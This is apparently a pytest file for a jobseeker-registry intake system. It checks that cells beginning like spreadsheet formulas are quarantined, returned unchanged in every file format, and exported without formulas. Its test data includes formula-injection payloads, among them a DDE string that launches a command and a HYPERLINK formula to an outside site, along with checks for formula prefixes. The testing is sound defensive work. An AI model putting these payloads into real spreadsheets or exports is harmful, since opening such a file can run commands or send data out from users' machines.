"""Rows that begin like formulas go to the owner of a registry and come back as they were, in every format."""

import csv
import io
import json
import re
import zipfile
from dataclasses import replace
from pathlib import Path
from typing import Any

import duckdb
import pytest
from python_calamine import CalamineWorkbook

from auyl import intake, ledger
from auyl.intake import quarantine
from auyl.settings import Settings
from auyl.store.lake import Lake
from tests.conftest import fresh_installation
from tests.extracts import PERIOD, iin, jobseeker
from tests.formats import derived

BAD = "123456789012"
CELLS = (
    '=HYPERLINK("http://x.kz/?"&A1;"жми")', "=cmd|' /C calc'!A0", "+7 701 123 45 67", "-5", "@x", "\t=1", "'=1",
    "''-2", " =1", "с. Шелек;=1", "a,=1", "two\nlines\n=1", "＝1", "{=1}", "0012", "https://x.kz", "О'Коннор",
    "'", '"=1"',
)  # fmt: skip
FORMATS: dict[str, dict[str, object]] = {
    "csv": {"format": "csv", "delimiter": ";"},
    "csv by commas": {"format": "csv", "delimiter": ","},
    "json": {"format": "json", "items": "items"},
    "jsonl": {"format": "jsonl"},
    "geojson": {"format": "geojson"},
    "xml": {"format": "xml", "record": "data/rows/row"},
    "xlsx": {"format": "xlsx"},
    "xls": {"format": "xls"},
}
SEEKERS = [
    *(jobseeker(n) for n in range(1, 201)),
    *(jobseeker(300 + n, iin=BAD, lastName=cell, profession=cell) for n, cell in enumerate(CELLS)),
]


def as_excel_writes(rows: list[list[Any]], how: str, delimiter: str) -> bytes:
    """A table as another program saves it: every cell quoted, or texts in one part of the workbook."""
    if how.startswith("csv"):
        out = io.StringIO()
        csv.writer(out, delimiter=delimiter, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerows(rows)
        return out.getvalue().encode("utf-8-sig")
    import xlsxwriter

    content = io.BytesIO()
    with xlsxwriter.Workbook(content, {"in_memory": True}) as book:
        page = book.add_worksheet("Отклонено")
        for at, row in enumerate(rows):
            for column, cell in enumerate(row):
                (page.write_string if isinstance(cell, str) else page.write)(at, column, cell)
    return content.getvalue()


def corrected(content: bytes, how: str, delimiter: str) -> bytes:
    """The file with right numbers, saved again by another program where it is a table."""
    numbers = iter(iin(300 + n) for n in range(len(CELLS)))

    def right(cell: Any) -> Any:
        return next(numbers) if cell == BAD else cell

    if how.startswith("csv"):
        table = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter))
        assert not [cell for row in table for cell in row if cell[:1] in tuple("=+-@\t")]
    elif how in ("xlsx", "xls"):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            assert not re.search(r"<f[ >]|<hyperlink", archive.read("xl/worksheets/sheet1.xml").decode())
        table = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
        assert set(CELLS) <= {cell for row in table for cell in row if isinstance(cell, str)}
    else:
        return re.sub(BAD.encode(), lambda _: next(numbers).encode(), content)
    return as_excel_writes([[right(cell) for cell in row] for row in table], how, delimiter)


def raw(settings: Settings, batch: intake.BatchResult) -> dict[str, tuple[str | None, ...]]:
    """Surname and profession in raw, by the identifier of the record."""
    path = Lake(settings.lake).address(ledger.batch(settings, int(batch.batch_id or 0)).raw_path)
    rows = duckdb.sql(f"select jobseeker_id, surname, profession from '{path}/*.parquet'").fetchall()
    return {row[0]: row[1:] for row in rows}


@pytest.fixture(scope="module")
def installation(dsn: str, tmp_path_factory: pytest.TempPathFactory) -> Settings:
    """One registry for each format."""
    folder = tmp_path_factory.mktemp("installation")
    registries = [(_registry(how), "employment", dict(options)) for how, options in FORMATS.items()]
    include = derived.include_with(folder, *registries, ("exported", "employment", {"format": "jsonl"}))
    return replace(fresh_installation(dsn, folder), include=include)


def _registry(how: str) -> str:
    return f"derived_{how.replace(' ', '_')}"


@pytest.mark.parametrize("how", FORMATS)
def test_what_begins_like_a_formula_comes_back_as_it_was(installation: Settings, tmp_path: Path, how: str) -> None:
    registry, format_, delimiter = _registry(how), str(FORMATS[how]["format"]), str(FORMATS[how].get("delimiter", ""))

    def send(name: str, content: bytes) -> intake.BatchResult:
        (tmp_path / name).write_bytes(content)
        return intake.load(intake.land_files(registry, PERIOD, [tmp_path / name], installation), installation)

    first = send(f"first.{format_}", _write(format_, SEEKERS, delimiter))
    assert (first.status, first.rejected) == ("accepted", len(CELLS)), first.refusal
    (made,) = intake.write_handback(installation, registry)
    content = Lake(installation.lake).read(made.path)
    again = send(Path(made.path).name, corrected(content, how, delimiter))
    assert (again.status, again.rejected, again.staged) == ("accepted", 0, len(SEEKERS)), again.refusal
    assert raw(installation, again) == raw(installation, first)


def _write(format_: str, rows: list[dict[str, object]], delimiter: str) -> bytes:
    if format_ == "csv":
        return as_excel_writes(
            [list(rows[0]), *([cell or "" for cell in row.values()] for row in rows)], "csv", delimiter
        )
    if format_ == "xlsx":
        return as_excel_writes([list(rows[0]), *(list(row.values()) for row in rows)], "xlsx", "")
    if format_ == "json":
        page = {"page": 1, "pages": 1, "items": rows}
        return json.dumps(page, ensure_ascii=False).encode()
    return derived.write(format_, rows)


def test_the_export_of_quarantine_runs_nothing(installation: Settings, tmp_path: Path) -> None:
    (tmp_path / "first.jsonl").write_bytes(derived.write("jsonl", SEEKERS))
    delivery = intake.land_files("exported", PERIOD, [tmp_path / "first.jsonl"], installation)
    assert intake.load(delivery, installation).rejected == len(CELLS)
    for ending in (".csv", ".xlsx"):
        quarantine.export(quarantine.quarantine(installation, "exported"), tmp_path / f"rejected{ending}")
        assert (tmp_path / f"rejected{ending}").stat().st_mode & 0o777 == 0o600
    text = (tmp_path / "rejected.csv").read_text("utf-8-sig")
    rows: list[list[Any]] = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert len(rows) == 1 + len(CELLS)
    assert not [cell for row in rows for cell in row if cell.strip()[:1] in tuple("=+-@＝")]
    content = io.BytesIO((tmp_path / "rejected.xlsx").read_bytes())
    with zipfile.ZipFile(content) as archive:
        assert not re.search(r"<f[ >]|<hyperlink", archive.read("xl/worksheets/sheet1.xml").decode())
    content.seek(0)
    table = CalamineWorkbook.from_filelike(content).get_sheet_by_index(0).to_python()
    assert sorted(row[table[0].index("surname")] for row in table[1:]) == sorted(CELLS)
    assert {type(row[table[0].index("iin")]) for row in table} == {str}
